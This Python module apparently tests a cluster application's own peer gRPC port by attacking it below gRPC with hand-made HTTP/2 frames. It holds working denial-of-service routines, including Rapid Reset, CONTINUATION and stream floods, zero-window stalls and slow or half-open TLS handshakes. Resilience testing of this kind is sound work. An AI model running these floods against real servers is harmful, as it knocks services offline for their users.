"""What strangers and hostile members do to a peer port, below gRPC: sockets, TLS, HTTP/2 frames made by hand.

Every attack is a coroutine on a `Door`. It returns how it ended in one word or two; whatever the victim does,
none raises. HTTP/2 is spoken by hpack and hyperframe, which share no code with gRPC.
"""

from __future__ import annotations

import asyncio
import os
import ssl
import struct
import tempfile
from collections.abc import AsyncIterator, Callable, Iterable
from contextlib import asynccontextmanager, suppress
from dataclasses import dataclass
from pathlib import Path

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from dcnr_app.cluster.identity import Credentials, dns_name
from dcnr_app.ids import PNodeId

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_BATCH = 500
_PATIENCE_S = 5.0


@dataclass(frozen=True)
class Door:
    """The port of PNode `pnode`, and what a member shows there."""

    pnode: PNodeId
    address: str
    member: Credentials

    @property
    def place(self) -> tuple[str, int]:
        host, _, port = self.address.rpartition(":")
        return host, int(port)


def tls_context(credentials: Credentials | None, ca_pem: bytes) -> ssl.SSLContext:
    """A client's TLS settings; without credentials it shows no certificate."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.load_verify_locations(cadata=ca_pem.decode())
    context.set_alpn_protocols(["h2"])
    if credentials is not None:
        with tempfile.TemporaryDirectory() as folder:
            files = Path(folder) / "cert.pem", Path(folder) / "key.pem"
            files[0].write_bytes(credentials.cert_pem)
            files[1].write_bytes(credentials.key_pem)
            context.load_cert_chain(*files)
    return context


def client_hello(door: Door) -> bytes:
    """The first bytes of a TLS handshake, as OpenSSL would send them."""
    out = ssl.MemoryBIO()
    context = tls_context(None, door.member.ca_pem)
    tls = context.wrap_bio(ssl.MemoryBIO(), out, server_hostname=dns_name(door.pnode))
    with suppress(ssl.SSLWantReadError):
        tls.do_handshake()
    return out.read()


class Wire:
    """HTTP/2 frames over a connection; what comes back is read all the time, and kept as its end."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.reader, self.writer = reader, writer
        self.end = ""
        self.n_pongs = 0
        self.n_resets = 0
        self.n_settings = 0
        self._encoder = hpack.Encoder()

    async def send(self, frames: Iterable[Frame]) -> bool:
        """Write frames; False once the victim has hung up."""
        if self.end:
            return False
        try:
            self.writer.write(b"".join(frame.serialize() for frame in frames))
            async with asyncio.timeout(5):
                await self.writer.drain()
        except (OSError, TimeoutError) as error:
            self.end = self.end or f"not taken: {type(error).__name__}"
            return False
        return True

    def request(
        self, stream: int, *extra: tuple[str, str], path: str = "/dcnr.v1.Peer/control"
    ) -> HeadersFrame:
        """The HEADERS that open a gRPC stream."""
        headers = [
            (":method", "POST"), (":scheme", "https"), (":path", path), (":authority", "x"),
            ("content-type", "application/grpc"), ("te", "trailers"), *extra,
        ]  # fmt: skip
        frame = HeadersFrame(stream)
        frame.data = self._encoder.encode(headers)
        frame.flags.add("END_HEADERS")
        return frame

    async def read_all(self) -> None:
        """Read frames until the victim hangs up."""
        try:
            while True:
                head = await self.reader.readexactly(9)
                frame, length = Frame.parse_frame_header(memoryview(head))
                body = await self.reader.readexactly(length)
                if isinstance(frame, PingFrame):
                    self.n_pongs += 1
                elif isinstance(frame, RstStreamFrame):
                    self.n_resets += 1
                elif isinstance(frame, SettingsFrame):
                    self.n_settings += 1
                elif isinstance(frame, GoAwayFrame):
                    code = struct.unpack(">I", body[4:8])[0]
                    self.end = f"goaway {code} {body[8:].decode(errors='replace')}".strip()
        except (OSError, asyncio.IncompleteReadError) as error:
            self.end = self.end or f"closed ({type(error).__name__})"


@asynccontextmanager
async def wire(
    door: Door, settings: dict[int, int] | None = None, *, reads: bool = True
) -> AsyncIterator[Wire]:
    """A connection of the member over TLS after the HTTP/2 preface."""
    context = tls_context(door.member, door.member.ca_pem)
    reader, writer = await asyncio.open_connection(
        *door.place, ssl=context, server_hostname=dns_name(door.pnode), ssl_handshake_timeout=20
    )
    opened = Wire(reader, writer)
    reading = asyncio.create_task(opened.read_all()) if reads else None
    try:
        writer.write(PREFACE)
        await opened.send([SettingsFrame(0, settings=settings or {})])
        yield opened
    finally:
        writer.transport.abort()
        if reading is not None:
            reading.cancel()
            await asyncio.wait({reading})


async def _flood(door: Door, n: int, make: Callable[[Wire, int], Iterable[Frame]]) -> str:
    """`n` times what `make` gives, as fast as they are taken."""
    async with wire(door) as opened:
        done = 0
        while done < n:
            batch = [frame for number in range(done, min(done + _BATCH, n)) for frame in make(opened, number)]
            if not await opened.send(batch):
                break
            done = min(done + _BATCH, n)
            await asyncio.sleep(0)
        # What was sent is not yet what was read: the answer to a last PING comes after all of it.
        loop, n_pongs = asyncio.get_running_loop(), opened.n_pongs
        begin = loop.time()
        await opened.send([PingFrame(0, opaque_data=b"the last")])
        while not opened.end and opened.n_pongs == n_pongs and loop.time() - begin < _PATIENCE_S:
            await asyncio.sleep(0.02)
        if not opened.end and opened.n_pongs == n_pongs:
            opened.end = "not read"
        return (
            f"{opened.end or 'taken'} after {done}, answered by {opened.n_resets} RST, "
            f"{opened.n_settings} SETTINGS, {opened.n_pongs} PING in {loop.time() - begin:.1f} s"
        )


def _stream_of(number: int) -> int:
    return 2 * number + 1


# ---- floods after TLS, by a member


async def pings(door: Door, n: int) -> str:
    """PING."""
    return await _flood(door, n, lambda _, i: [PingFrame(0, opaque_data=struct.pack(">Q", i))])


async def settings_frames(door: Door, n: int) -> str:
    """SETTINGS, each of which asks for an ACK."""
    return await _flood(door, n, lambda _, i: [SettingsFrame(0, settings={4: 65535 + i % 7})])


async def rapid_resets(door: Door, n: int) -> str:
    """HEADERS and at once RST_STREAM (CVE-2023-44487)."""
    return await _flood(
        door, n, lambda w, i: [w.request(_stream_of(i)), RstStreamFrame(_stream_of(i), error_code=8)]
    )


async def made_resets(door: Door, n: int) -> str:
    """HEADERS and a frame for which the victim must reset the stream itself (CVE-2025-8671)."""
    most = 2**31 - 1
    return await _flood(
        door,
        n,
        lambda w, i: [w.request(_stream_of(i)), WindowUpdateFrame(_stream_of(i), window_increment=most)],
    )


async def empty_data(door: Door, n: int) -> str:
    """DATA without bytes on one stream."""
    return await _flood(door, n, lambda w, i: [w.request(1)] if i == 0 else [DataFrame(1, data=b"")])


async def window_updates(door: Door, n: int) -> str:
    """WINDOW_UPDATE of one byte."""
    return await _flood(door, n, lambda _, i: [WindowUpdateFrame(0, window_increment=1)])


async def priorities(door: Door, n: int) -> str:
    """PRIORITY for streams that do not exist."""
    return await _flood(
        door, n, lambda _, i: [PriorityFrame(_stream_of(i % 1000) + 10, depends_on=1, stream_weight=1)]
    )


async def continuations(door: Door, n: int) -> str:
    """HEADERS without an end, then CONTINUATION for ever."""

    def make(opened: Wire, number: int) -> Iterable[Frame]:
        if number == 0:
            first = opened.request(1)
            first.flags.discard("END_HEADERS")
            return [first]
        return [ContinuationFrame(1, data=hpack.Encoder().encode([(f"x-{number}", "y" * 100)]))]

    return await _flood(door, n, make)


async def header_list(door: Door, n_bytes: int) -> str:
    """One request with far too many header bytes."""
    extra = [(f"x-{number}", "y" * 1000) for number in range(n_bytes // 1000)]

    def make(opened: Wire, _: int) -> Iterable[Frame]:
        request = opened.request(1, *extra)
        block, request.data = request.data, request.data[:16000]
        request.flags.discard("END_HEADERS")
        rest = [block[i : i + 16000] for i in range(16000, len(block), 16000)]
        frames = [ContinuationFrame(1, data=part) for part in rest]
        frames[-1].flags.add("END_HEADERS")
        return [request, *frames]

    return await _flood(door, 1, make)


async def many_streams(door: Door, n: int) -> str:
    """Streams that are opened and left open."""
    return await _flood(door, n, lambda w, i: [w.request(_stream_of(i))])


async def unread_body(door: Door, n_bytes: int) -> str:
    """Bytes of a message that never ends, on a stream that never greets; more than the window is not sent."""
    body = b"\0" + struct.pack(">I", 1 << 20)

    def make(opened: Wire, number: int) -> Iterable[Frame]:
        if number == 0:
            return [opened.request(1), DataFrame(1, data=body)]
        return [DataFrame(1, data=bytes(16000))]

    return await _flood(door, n_bytes // 16000, make)


async def zero_window(door: Door, n: int) -> str:
    """Streams whose answers may not be sent: the window is 0 and nothing is ever read."""
    async with wire(door, {4: 0}, reads=False) as opened:
        for number in range(n):
            if not await opened.send([opened.request(_stream_of(number), path="/dcnr.v1.Peer/none")]):
                break
        await asyncio.sleep(0.5)
        return opened.end or "held"


# ---- before TLS, by anybody


async def garbage(door: Door, n: int) -> str:
    """Random bytes from `n` connections."""

    async def one() -> str:
        try:
            reader, writer = await asyncio.open_connection(*door.place)
            try:
                writer.write(os.urandom(2000))
                async with asyncio.timeout(10):
                    await reader.read(1)
            finally:
                writer.transport.abort()
        except TimeoutError:
            return "held"
        except OSError:
            return "reset"
        return "closed"

    ends = await asyncio.gather(*(one() for _ in range(n)))
    return ", ".join(f"{end} {ends.count(end)}" for end in sorted(set(ends)))


@asynccontextmanager
async def half_open(door: Door, n: int, n_bytes: int = 60) -> AsyncIterator[list[asyncio.StreamReader]]:
    """`n` connections that have sent the beginning of a handshake and say no more."""
    hello = client_hello(door)[:n_bytes]
    writers: list[asyncio.StreamWriter] = []
    readers: list[asyncio.StreamReader] = []
    try:
        for _ in range(n):
            with suppress(OSError):
                reader, writer = await asyncio.open_connection(*door.place)
                writers.append(writer)
                readers.append(reader)
                writer.write(hello)
        yield readers
    finally:
        for writer in writers:
            writer.transport.abort()


async def how_long_held(reader: asyncio.StreamReader, limit_s: float) -> float:
    """Seconds until the victim hangs up; `limit_s` if it does not."""
    loop = asyncio.get_running_loop()
    begin = loop.time()
    with suppress(OSError, TimeoutError):
        async with asyncio.timeout(limit_s):
            while await reader.read(4096):
                pass
    return loop.time() - begin


async def slow_handshake(door: Door, seconds: float, byte_s: float = 0.1) -> float:
    """A handshake of a byte now and then; returns the seconds until the victim hung up."""
    reader, writer = await asyncio.open_connection(*door.place)
    held = asyncio.create_task(how_long_held(reader, seconds))
    try:
        for byte in client_hello(door):
            writer.write(bytes([byte]))
            done, _ = await asyncio.wait({held}, timeout=byte_s)
            if done:
                break
        return await held
    finally:
        writer.transport.abort()
